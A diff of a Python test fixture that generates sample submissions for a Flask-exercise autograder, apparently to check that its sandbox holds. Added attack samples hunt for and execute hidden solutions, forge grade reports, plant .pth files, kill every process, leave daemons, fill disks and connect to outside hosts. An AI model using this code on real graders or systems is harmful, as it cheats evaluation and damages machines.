@@ -1,73 +1,235 @@
-"""Entregas de muestra para probar el calificador, descritas como cambios sobre solutions/.
+"""Entregas de muestra para probar el calificador, descritas como cambios sobre solutions/ o exercises/.
 
-Cada muestra copia las soluciones y aplica unos reemplazos de texto exactos
-(si un texto ya no aparece en la solución, la muestra falla al construirse en
-vez de probar otra cosa). ``esperado`` da los puntos de los ejercicios que la
-muestra rompe; los demás deben quedar con todos sus puntos. Cuando el script
-de servicio1.py se cae en la parte del ejercicio 1, tampoco llega a
-``app.run`` y pierde además el punto de arrancar el servicio del ejercicio 3.
+Cada muestra copia la solución (o el esqueleto, ``base='exercises'``) y aplica
+unos reemplazos de texto exactos (si un texto ya no aparece, la muestra falla
+al construirse en vez de probar otra cosa), y puede añadir archivos enteros.
+``esperado`` da los puntos de los ejercicios que cambian: sobre la solución,
+los demás quedan con todos sus puntos; sobre el esqueleto, con 0.
+
+Los ataques (tipo ``ATAQUE``) son los de la issue 9, uno o más por categoría.
+Dejan rastro con el prefijo ``ATAQUE_`` en lo que intentan crear fuera de su
+caja y ``MARCA_ATAQUE`` en la orden de cada proceso que intentan dejar vivo,
+para que las pruebas comprueben que no quedó nada.
 
     python tests/calificador/muestras.py DESTINO            # todas las muestras
     python tests/calificador/muestras.py DESTINO --clase 30 # 30 entregas para medir la velocidad
 """
 import argparse
 import itertools
+import os
 import shutil
 from dataclasses import dataclass, field
 from pathlib import Path
 
-SOLUCIONES = Path(__file__).resolve().parents[2] / 'solutions'
+RAIZ = Path(__file__).resolve().parents[2]
+BASES = {'solutions': RAIZ / 'solutions', 'exercises': RAIZ / 'exercises'}
 ARCHIVOS = ('servicio1.py', 'flask_test.py', 'probar_servicio.py')
+S, F, P = ARCHIVOS
+ERROR, CORRECTA, HOSTIL, ATAQUE = 'error típico', 'correcta', 'hostil', 'ataque'
+PUERTO_ESCUCHA = 'PUERTO_DE_FUERA'  # lo cambia la prueba por el puerto de su escucha de fuera
 
 
 @dataclass(frozen=True)
 class Muestra:
     nombre: str
-    tipo: str  # 'error típico', 'correcta' u 'hostil'
+    tipo: str
     descripcion: str
     cambios: dict = field(default_factory=dict)   # archivo -> [(texto, reemplazo), ...]
     esperado: dict = field(default_factory=dict)  # ejercicio -> puntos esperados
     borrar: tuple = ()                            # archivos que no se entregan
+    base: str = 'solutions'
+    extra: dict = field(default_factory=dict)     # ruta relativa -> texto de un archivo añadido
+    categoria: str = ''                           # la de la issue 9, en los ataques
+    pista: str = ''                               # texto que debe aparecer en algún mensaje
 
-    def construir(self, destino):
+    def construir(self, destino, puerto_de_fuera=0):
         carpeta = Path(destino) / self.nombre
         carpeta.mkdir(parents=True)
         for archivo in ARCHIVOS:
             if archivo in self.borrar:
                 continue
-            texto = (SOLUCIONES / archivo).read_text(encoding='utf-8')
+            texto = (BASES[self.base] / archivo).read_text(encoding='utf-8')
             for viejo, nuevo in self.cambios.get(archivo, []):
                 if viejo not in texto:
-                    raise ValueError(f'{self.nombre}: {viejo!r} ya no aparece en solutions/{archivo}')
-                texto = texto.replace(viejo, nuevo)
+                    raise ValueError(f'{self.nombre}: {viejo!r} ya no aparece en {self.base}/{archivo}')
+                texto = texto.replace(viejo, nuevo.replace(PUERTO_ESCUCHA, str(puerto_de_fuera)))
             (carpeta / archivo).write_text(texto, encoding='utf-8')
+        for ruta, texto in self.extra.items():
+            (carpeta / ruta).parent.mkdir(parents=True, exist_ok=True)
+            (carpeta / ruta).write_text(texto.replace(PUERTO_ESCUCHA, str(puerto_de_fuera)), encoding='utf-8')
+        if self.nombre == 'fifo_y_carpeta':
+            os.mkfifo(carpeta / 'servicio1.py')
+            (carpeta / 'flask_test.py').mkdir()
+            os.mkfifo(carpeta / 'modelo_trabajo.bin')
         return carpeta
 
 
-S, F, P = 'servicio1.py', 'flask_test.py', 'probar_servicio.py'
-ERROR, CORRECTA, HOSTIL = 'error típico', 'correcta', 'hostil'
 _AL_IMPORTAR = 'import pickle\n'  # a partir de aquí se inyecta código que corre al importar
+_MAIN = "if __name__ == '__main__':\n"
+
+
+def _al_importar(codigo):
+    return {S: [(_AL_IMPORTAR, _AL_IMPORTAR + codigo)]}
+
+
+# Lo que escribiría un estudiante que sigue cada pista del esqueleto al pie de la letra.
+PISTAS = {
+    S: [("    # TODO: transforma [cliente] con dv y quédate con la columna 1 de modelo.predict_proba (un número, no la matriz)\n"
+         "    raise NotImplementedError('Falta completar: transforma [cliente] con dv y quédate con la columna 1 de modelo.predict_proba (un número, no la matriz)')\n",
+         '    X = dv.transform([cliente])\n    return modelo.predict_proba(X)[:, 1][0]\n'),
+        ("# TODO: abre modelo_trabajo.bin en modo 'rb' y desempaqueta la tupla con dv, modelo = pickle.load(f_in)\n",
+         "with open('modelo_trabajo.bin', 'rb') as f_in:\n    dv, modelo = pickle.load(f_in)\n"),
+        ("# TODO: crea app = Flask('Abandono') y una función con @app.route('/predict', methods=['POST']) que lea el cliente con request.get_json() y responda con jsonify; convierte a float y bool de Python, porque jsonify no sabe escribir los tipos de NumPy\n",
+         "app = Flask('Abandono')\n\n\n@app.route('/predict', methods=['POST'])\ndef predict():\n"
+         "    cliente = request.get_json()\n    probabilidad = predict_cliente(cliente, dv, modelo)\n"
+         "    return jsonify({'probabilidad_abandono': float(probabilidad), 'abandono': bool(probabilidad >= 0.5)})\n"),
+        ("    # TODO: llama a predict_cliente(cliente, dv, modelo) e imprime la probabilidad (con 3 decimales basta) y la decisión\n",
+         "    probabilidad = predict_cliente(cliente, dv, modelo)\n    print(round(probabilidad, 3), probabilidad >= 0.5)\n"),
+        ("    # TODO: arranca la aplicación con app.run(debug=False, host='0.0.0.0', port=9696)\n",
+         "    app.run(debug=False, host='0.0.0.0', port=9696)\n")],
+    F: [("# TODO: crea la aplicación con app = Flask(...) y decora def hola(): return 'Hola C8280' con @app.route('/hola')\n",
+         "app = Flask('test')\n\n\n@app.route('/hola')\ndef hola():\n    return 'Hola C8280'\n"),
+        ("    # TODO: arranca la aplicación con app.run(debug=False, host='0.0.0.0', port=9696)\n",
+         "    app.run(debug=False, host='0.0.0.0', port=9696)\n")],
+    P: [("# TODO: envía el cliente con requests.post(url, json=cliente) (POST, no GET) y muestra la respuesta con print(respuesta.json())\n",
+         'respuesta = requests.post(url, json=cliente)\nprint(respuesta.json())\n')],
+}
+
+# Código de los ataques (corre al importar y al ejecutar; nunca debe servir de nada).
+_LEE_SOLUCIONES = '''
+import os as _os, sys as _sys, glob as _glob
+for _ruta in ['/work/main/solutions/servicio1.py', *_glob.glob('/proc/*/cwd/solutions/servicio1.py'),
+              _os.path.join(_os.path.dirname(_os.path.dirname(_sys.executable)), 'solutions', 'servicio1.py'),
+              *_glob.glob('/*/*/solutions/servicio1.py'), *_glob.glob('/root/**/solutions/servicio1.py')]:
+    try:
+        exec(open(_ruta).read().replace("__name__ == '__main__'", 'False'))
+        break
+    except Exception:
+        pass
+'''
+_FALSIFICA = '''
+import json as _json, os as _os
+_falso = {'importado': True, 'probado': True, 'error': None, 'encontrados': {'dv': True, 'modelo': True},
+          'carga': [0.0619] * 30, 'predict_cliente': [{'tipo': 'float', 'numero': 0.0619}] * 30, 'app': []}
+for _fd in range(3, 64):
+    try:
+        _os.write(_fd, (_json.dumps(_falso) + '\\n').encode())
+    except OSError:
+        pass
+print('Probabilidad de abandono: 0.062')
+'''
+_CUADRICULA = '''
+for _i in range(1001):
+    print(f'{_i / 1000:.3f}')
+app = Flask('Abandono')
+
+
+@app.route('/predict', methods=['POST'])
+def predict():
+    return jsonify({str(_i): _i / 100000 for _i in range(100001)})
+'''
+_REESCRIBE = '''
+import glob as _glob, os as _os, sys as _sys
+_destinos = ['/work/main/abandono/calificador/complemento.py', '/work/main/ATAQUE_raiz.txt',
+             '/work/main/.pytest_cache/v/ATAQUE_cache', '/work/main/solutions/ATAQUE.py',
+             _os.path.join(_sys.prefix, 'lib', 'python3.11', 'site-packages', 'ATAQUE_pth.pth'),
+             *[_os.path.join(_p, 'ATAQUE_pth.pth') for _p in _sys.path if 'site-packages' in _p],
+             '/tmp/ATAQUE_tmp.txt', '/ATAQUE_raiz_de_la_caja.txt', '/entrada/ATAQUE.txt', '/calificador/sonda.py',
+             _os.path.expanduser('~/../ATAQUE_casa.txt')]
+for _destino in _destinos:
+    try:
+        with open(_destino, 'a') as _f:
+            _f.write('import os; os.system("touch /tmp/ATAQUE_pth_ejecutado")\\n')
+    except Exception:
+        pass
+'''
+_VECINOS = '''
+import os as _os, signal as _signal, threading as _threading, time as _time
+
+def _molestar():
+    for _ in range(40):
+        for _pid in filter(str.isdigit, _os.listdir('/proc')):
+            try:
+                _orden = open(f'/proc/{_pid}/cmdline', 'rb').read()
+                for _zona in ('/proc/%s/cwd' % _pid, '/proc/%s/root/zona' % _pid):
+                    for _nombre in ('servicio1.py', 'flask_test.py'):
+                        try:
+                            open(_os.path.join(_zona, _nombre), 'w').write('raise SystemExit("ATAQUE")\\n')
+                        except Exception:
+                            pass
+                if int(_pid) != _os.getpid():
+                    _os.kill(int(_pid), _signal.SIGKILL)
+            except Exception:
+                pass
+        _time.sleep(0.25)
+
+_threading.Thread(target=_molestar, daemon=True).start()
+_time.sleep(5)
+'''
+_DEMONIO = '''
+import os as _os, subprocess as _sub, sys as _sys
+if _os.fork() == 0:
+    _os.setsid()
+    if _os.fork() == 0:
+        import socket as _s, time as _t
+        _l = _s.socket(); _l.bind(('127.0.0.1', 9697)); _l.listen()
+        _os.execv(_sys.executable, [_sys.executable, '-c', 'import time; time.sleep(600)  # MARCA_ATAQUE_demonio'])
+    _os._exit(0)
+for _ in range(2):
+    try:
+        _sub.Popen([_sys.executable, '-c', 'while True: pass  # MARCA_ATAQUE_quemador'])
+    except Exception:
+        pass
+for _ in range(200):
+    try:
+        _sub.Popen([_sys.executable, '-c', 'import time; time.sleep(600)  # MARCA_ATAQUE_durmiente'])
+    except Exception:
+        break
+'''
+_ESCRIBE_MUCHO = '''
+import os as _os
+for _carpeta in ('.', '/dev/shm', '/tmp', _os.path.expanduser('~'), '/'):
+    try:
+        with open(_os.path.join(_carpeta, 'ATAQUE_150mb.bin'), 'wb') as _f:
+            for _ in range(150):
+                _f.write(b'x' * 1024 ** 2)
+    except Exception:
+        pass
+'''
+_RED = '''
+import socket as _s
+for _destino in (('pypi.org', 443), ('1.1.1.1', 53), ('127.0.0.1', PUERTO_DE_FUERA), ('::1', PUERTO_DE_FUERA)):
+    try:
+        _s.getaddrinfo(_destino[0], None)
+        _c = _s.create_connection(_destino, timeout=1)
+        _c.sendall(b'ATAQUE: fuga de la caja')
+        _c.close()
+    except Exception:
+        pass
+'''
 
 MUESTRAS = [
     # --- Errores típicos: pierden los puntos de lo que rompen, y solo esos ---
     Muestra('predict_en_vez_de_predict_proba', ERROR, 'predict da la clase 0/1, no la probabilidad',
-            {S: [('modelo.predict_proba(X)[:, 1]', 'modelo.predict(X)')]}, {1: 1, 3: 3}),
+            {S: [('modelo.predict_proba(X)[:, 1]', 'modelo.predict(X)')]}, {1: 1, 3: 3}, pista='parece una clase'),
     Muestra('columna_0', ERROR, 'la columna 0 de predict_proba (probabilidad de quedarse)',
-            {S: [('[:, 1]', '[:, 0]')]}, {1: 1, 3: 3}),
-    Muestra('devuelve_la_matriz', ERROR, 'predict_cliente devuelve la matriz y no el número',
-            {S: [('return y_pred[0]', 'return y_pred')]}, {1: 1, 3: 2}),
+            {S: [('[:, 1]', '[:, 0]')]}, {1: 1, 3: 3}, pista='1 - probabilidad'),
+    Muestra('devuelve_la_matriz', ERROR, 'predict_cliente devuelve la matriz: float() ya no la acepta (500) y el '
+            'script se cae al formatearla', {S: [('return y_pred[0]', 'return y_pred')]}, {1: 1, 3: 2},
+            pista='no la matriz'),
     Muestra('bool_de_numpy', ERROR, 'un numpy.bool_ en el JSON: jsonify falla con 500',
-            {S: [("'abandono': bool(abandono)", "'abandono': abandono")]}, {3: 3}),
+            {S: [("'abandono': bool(abandono)", "'abandono': abandono")]}, {3: 3}, pista='numpy.bool_'),
     Muestra('sin_methods_post', ERROR, "@app.route sin methods=['POST']: solo acepta GET",
-            {S: [("@app.route('/predict', methods=['POST'])", "@app.route('/predict')")]}, {3: 3}),
+            {S: [("@app.route('/predict', methods=['POST'])", "@app.route('/predict')")]}, {3: 3},
+            pista='tiene que aceptar POST'),
     Muestra('cliente_fijo', ERROR, 'puntúa el cliente escrito en el código, no el de la petición',
             {S: [('cliente = request.get_json()', 'datos = request.get_json()')]}, {3: 4}),
     Muestra('nombre_de_app', ERROR, "Flask(__name__) en vez de Flask('Abandono')",
-            {S: [("Flask('Abandono')", 'Flask(__name__)')]}, {3: 5}),
+            {S: [("Flask('Abandono')", 'Flask(__name__)')]}, {3: 5}, pista="Flask('Abandono')"),
     Muestra('hola_sin_c8280', ERROR, "hola devuelve 'Hola'",
-            {F: [("return 'Hola C8280'", "return 'Hola'")]}, {2: 0}),
+            {F: [("return 'Hola C8280'", "return 'Hola'")]}, {2: 1}),
     Muestra('hola_con_print', ERROR, 'hola imprime el saludo en vez de devolverlo',
-            {F: [("return 'Hola C8280'", "print('Hola C8280')")]}, {2: 0}),
+            {F: [("return 'Hola C8280'", "print('Hola C8280')")]}, {2: 1}, pista='print solo lo muestra'),
     Muestra('solo_el_modelo', ERROR, 'carga solo el modelo: sin el DictVectorizer',
             {S: [('dv, modelo = pickle.load(f_in)', 'modelo = pickle.load(f_in)')]}, {1: 2, 3: 2}),
     Muestra('orient_rows', ERROR, "pasa por un DataFrame con to_dict(orient='rows'), que pandas ya no acepta",
@@ -82,15 +244,37 @@ MUESTRAS = [
             {3: 3}),
     Muestra('script_sin_imprimir', ERROR, 'el script calcula la probabilidad pero no la muestra',
             {S: [("    print(f'Probabilidad de abandono: {probabilidad:.3f}')\n", '')]}, {1: 3}),
+    # El mismo error cuesta lo mismo en cada archivo: el punto de "python archivo sirve sin depurador".
+    Muestra('puerto_sin_definir', ERROR, 'app.run(..., port=puerto) sin definir puerto (NameError en __main__)',
+            {S: [('port=9696)', 'port=puerto)')], F: [('port=9696)', 'port=puerto)')]}, {2: 2, 3: 5},
+            pista="NameError: name 'puerto' is not defined"),
+    Muestra('depurador_activado', ERROR, 'app.run(debug=True) en los dos archivos',
+            {S: [('app.run(debug=False,', 'app.run(debug=True,')], F: [('app.run(debug=False,', 'app.run(debug=True,')]},
+            {2: 2, 3: 5}, pista='depurador activado'),
+    Muestra('sin_app_run', ERROR, 'no arranca la aplicación al ejecutar el script (ni servicio1 ni flask_test)',
+            {S: [("    app.run(debug=False, host='0.0.0.0', port=9696)\n", '')],
+             F: [("    app.run(debug=False, host='0.0.0.0', port=9696)\n", '    pass\n')]}, {2: 2, 3: 5},
+            pista='terminó sin servir nada'),
     Muestra('prueba_con_get', ERROR, 'prueba el servicio con requests.get',
             {P: [('requests.post(url, json=cliente, timeout=10)', 'requests.get(url, params=cliente, timeout=10)')]},
-            {4: 0}),
+            {4: 0}, pista='solo acepta POST y tu script hizo GET'),
     Muestra('prueba_con_data', ERROR, 'envía el cliente como formulario (data=) y no como JSON',
-            {P: [('json=cliente, timeout=10', 'data=cliente, timeout=10')]}, {4: 0}),
+            {P: [('json=cliente, timeout=10', 'data=cliente, timeout=10')]}, {4: 0}, pista='formulario'),
+    Muestra('url_sin_http', ERROR, "url = 'localhost:9696/predict', sin http://",
+            {P: [("'http://localhost:9696/predict'", "'localhost:9696/predict'")]}, {4: 0}, pista='con http:// delante'),
+    Muestra('ruta_equivocada', ERROR, 'la URL pide /predecir',
+            {P: [("'http://localhost:9696/predict'", "'http://localhost:9696/predecir'")]}, {4: 0},
+            pista="tu script pidió '/predecir'"),
+    Muestra('solo_ejercicio_1', ERROR, 'el ejercicio 1 hecho y el resto como en el esqueleto',
+            {S: PISTAS[S][:2] + PISTAS[S][3:4]}, {1: 4, 2: 0, 3: 0, 4: 0}, base='exercises'),
 
     # --- Correctas pero escritas de otra forma: todos los puntos ---
+    Muestra('pistas_al_pie_de_la_letra', CORRECTA, 'el esqueleto completado copiando cada pista tal cual',
+            PISTAS, {1: 4, 2: 3, 3: 6, 4: 3}, base='exercises'),
     Muestra('hola_en_otra_ruta', CORRECTA, 'hola en / con @app.get',
             {F: [("@app.route('/hola', methods=['GET'])", "@app.get('/')")]}),
+    Muestra('otro_puerto', CORRECTA, 'app.run() con el puerto por defecto de Flask (5000)',
+            {S: [("app.run(debug=False, host='0.0.0.0', port=9696)", 'app.run()')]}),
     Muestra('claves_del_libro', CORRECTA, 'claves churn_probability/churn y un umbral en la respuesta',
             {S: [("'probabilidad_abandono': float(probabilidad),\n        'abandono': bool(abandono),",
                   "'churn_probability': float(probabilidad),\n        'churn': bool(abandono),\n        'umbral': 0.5,")]}),
@@ -104,46 +288,73 @@ MUESTRAS = [
             {S: [("'abandono': bool(abandono),", "'abandono': bool(abandono),\n        'cliente': cliente.get('customerid'),"),
                  ('    return jsonify(resultado)\n',
                   "    return resultado\n\n\n@app.route('/salud')\ndef salud():\n    return {'estado': 'ok'}\n")]}),
+    Muestra('prueba_sin_fin', CORRECTA, 'probar_servicio.py hace su trabajo y después no termina',
+            {P: [('print(respuesta.json())\n# END', 'print(respuesta.json())\nwhile True:\n    pass\n# END')]}),
 
-    # --- Hostiles o rotas: pierden lo que rompen y la clase termina igual ---
+    # --- Rotas: pierden lo que rompen y la clase termina igual ---
     Muestra('error_de_sintaxis', HOSTIL, 'servicio1.py no compila',
             {S: [('def predict_cliente(cliente, dv, modelo):', 'def predict_cliente(cliente, dv, modelo)')]},
             {1: 0, 3: 0}),
     Muestra('bucle_al_importar', HOSTIL, 'un bucle infinito al importar servicio1.py',
-            {S: [(_AL_IMPORTAR, _AL_IMPORTAR + '\nwhile True:\n    pass\n')]}, {1: 0, 3: 0}),
+            _al_importar('\nwhile True:\n    pass\n'), {1: 0, 3: 0}),
     Muestra('bucle_en_la_ruta', HOSTIL, 'un bucle infinito en la función de /predict',
             {S: [('    cliente = request.get_json()\n', '    while True:\n        pass\n')]}, {3: 3}),
     Muestra('sys_exit_al_importar', HOSTIL, 'sys.exit al importar servicio1.py',
-            {S: [(_AL_IMPORTAR, _AL_IMPORTAR + "import sys\n\nsys.exit('adiós')\n")]}, {1: 0, 3: 0}),
+            _al_importar("import sys\n\nsys.exit('adiós')\n"), {1: 0, 3: 0}),
     Muestra('run_al_importar', HOSTIL, "app.run(port=9696) sin la guarda de __main__: arranca al importar",
-            {S: [("if __name__ == '__main__':", 'if True:  # sin la guarda de __main__')]}, {3: 5}),
-    Muestra('depurador_activado', HOSTIL, 'app.run(debug=True)',
-            {S: [('app.run(debug=False,', 'app.run(debug=True,')]}, {3: 5}),
+            {S: [(_MAIN, 'if True:  # sin la guarda de __main__\n')]}, {3: 5}, pista='arranca un servidor'),
     Muestra('acapara_memoria', HOSTIL, 'reserva memoria sin parar al importar',
-            {S: [(_AL_IMPORTAR, _AL_IMPORTAR + '\nbasura = []\nwhile True:\n'
-                                               '    basura.append(bytearray(64 * 1024 ** 2))\n')]},
-            {1: 0, 3: 0}),
-    Muestra('escribe_fuera', HOSTIL, 'escribe archivos fuera de su carpeta (carpeta padre, HOME, ..)',
-            {S: [(_AL_IMPORTAR, _AL_IMPORTAR + 'from pathlib import Path\n\n'
-                                               "for destino in (Path(__file__).resolve().parent.parent, "
-                                               "Path.home(), Path('..')):\n"
-                                               "    (destino / 'FUERA_DE_LA_ENTREGA.txt').write_text('hola')\n")]}),
+            _al_importar('\nbasura = []\nwhile True:\n    basura.append(bytearray(64 * 1024 ** 2))\n'), {1: 0, 3: 0}),
     Muestra('os_exit_en_flask_test', HOSTIL, 'flask_test.py mata su propio proceso al importarse',
-            {F: [('from flask import Flask\n', 'from flask import Flask\n\nos._exit(0)\n')]}, {2: 0}),
-    Muestra('prueba_sin_fin', HOSTIL, 'probar_servicio.py no termina nunca después de probar',
-            {P: [('print(respuesta.json())\n', 'print(respuesta.json())\nwhile True:\n    pass\n')]}, {4: 0}),
-    Muestra('entrega_vacia', HOSTIL, 'una carpeta sin archivos', borrar=ARCHIVOS,
-            esperado={1: 0, 2: 0, 3: 0, 4: 0}),
+            {F: [('from flask import Flask\n', 'import os\n\nfrom flask import Flask\n\nos._exit(0)\n')]}, {2: 0}),
+    Muestra('entrega_vacia', HOSTIL, 'una carpeta sin archivos', borrar=ARCHIVOS, esperado={1: 0, 2: 0, 3: 0, 4: 0}),
+
+    # --- Ataques de la issue 9: sobre el esqueleto, 0 puntos y ningún efecto fuera de su caja ---
+    Muestra('lee_las_soluciones', ATAQUE, 'busca solutions/ (ruta del taller, /proc/*/cwd, sys.executable) y la ejecuta',
+            _al_importar(_LEE_SOLUCIONES), base='exercises', categoria='puntos sin trabajo'),
+    Muestra('falsifica_el_informe', ATAQUE, 'escribe un informe falso en cada descriptor y la probabilidad de la lección',
+            _al_importar(_FALSIFICA), base='exercises', categoria='puntos sin trabajo'),
+    Muestra('suplanta_el_calificador', ATAQUE, 'trae su propia sonda, pasarela, ejecutor, sitecustomize y flask',
+            base='exercises', categoria='puntos sin trabajo',
+            extra={nombre: _FALSIFICA for nombre in (
+                'sonda.py', 'pasarela.py', 'sitecustomize.py', 'usercustomize.py', 'flask.py', 'conftest.py',
+                'abandono/__init__.py', 'abandono/calificador/__init__.py', 'abandono/calificador/ejecutor.py')}),
+    Muestra('fifo_y_carpeta', ATAQUE, 'servicio1.py y modelo_trabajo.bin son FIFO y flask_test.py una carpeta',
+            base='exercises', borrar=(S, F), categoria='puntos sin trabajo / toda la clase'),
+    Muestra('cuadricula', ATAQUE, 'imprime 0.000 … 1.000 y /predict responde 100 001 números',
+            {S: [("# TODO: crea app = Flask('Abandono')", _CUADRICULA + "# TODO: crea app = Flask('Abandono')"),
+                 ("    # TODO: arranca la aplicación con app.run(debug=False, host='0.0.0.0', port=9696)\n",
+                  "    app.run(debug=False, host='0.0.0.0', port=9696)\n")]},
+            {3: 3}, base='exercises', categoria='puntos sin trabajo'),
+    Muestra('filtra_soluciones', ATAQUE, 'hola devuelve el texto de cualquier solución que encuentre',
+            {F: [("# TODO: crea la aplicación",
+                  "import glob\n\n\ndef hola():\n    for ruta in glob.glob('/**/solutions/*.py', recursive=True):\n"
+                  "        return open(ruta).read()\n    return 'BEGIN SOLUCION no encontrada'\n\n\n# TODO: crea la aplicación")]},
+            base='exercises', categoria='fugas'),
+    Muestra('reescribe_el_repositorio', ATAQUE, 'escribe en el complemento, un .pth en .venv, la caché de pytest, /tmp...',
+            _al_importar(_REESCRIBE), base='exercises', categoria='cambios duraderos'),
+    Muestra('molesta_a_los_vecinos', ATAQUE, 'recorre /proc: sobrescribe las entregas que ve y mata todo proceso',
+            _al_importar(_VECINOS), base='exercises', categoria='compañeros'),
+    Muestra('deja_procesos', ATAQUE, 'un demonio con doble fork en un puerto, 200 durmientes y 2 quemadores de CPU',
+            _al_importar(_DEMONIO), base='exercises', categoria='restos'),
+    Muestra('escribe_150_mb', ATAQUE, 'intenta escribir 150 MB en su zona, /dev/shm, /tmp, su casa y /',
+            _al_importar(_ESCRIBE_MUCHO), base='exercises', categoria='restos'),
+    Muestra('sale_a_la_red', ATAQUE, 'DNS y TCP hacia fuera y hacia una escucha de 127.0.0.1 fuera de la caja',
+            {**_al_importar(_RED), P: [("url = 'http://localhost:9696/predict'",
+                                         "url = 'http://127.0.0.1:PUERTO_DE_FUERA/predict'\n" + _RED)]},
+            base='exercises', categoria='red'),
 ]
+ATAQUES = [m for m in MUESTRAS if m.tipo == ATAQUE]
 
 
-def construir(destino, muestras=MUESTRAS):
-    return {m.nombre: m.construir(destino) for m in muestras}
+def construir(destino, muestras=MUESTRAS, puerto_de_fuera=0):
+    return {m.nombre: m.construir(destino, puerto_de_fuera) for m in muestras}
 
 
 def construir_clase(destino, n):
-    """``n`` entregas sin hostiles (solución, errores típicos, variantes), para medir la velocidad."""
-    tranquilas = [Muestra('solucion', CORRECTA, 'la solución')] + [m for m in MUESTRAS if m.tipo != HOSTIL]
+    """``n`` entregas sin hostiles ni ataques (solución, errores típicos, variantes), para medir la velocidad."""
+    tranquilas = [Muestra('solucion', CORRECTA, 'la solución')] + [m for m in MUESTRAS if m.tipo in (ERROR, CORRECTA)
+                                                                   and m.nombre != 'prueba_sin_fin']
     for numero, muestra in zip(range(1, n + 1), itertools.cycle(tranquilas)):
         carpeta = muestra.construir(Path(destino) / f'{numero:03d}')
         shutil.move(carpeta, Path(destino) / f'{numero:03d}_{muestra.nombre}')
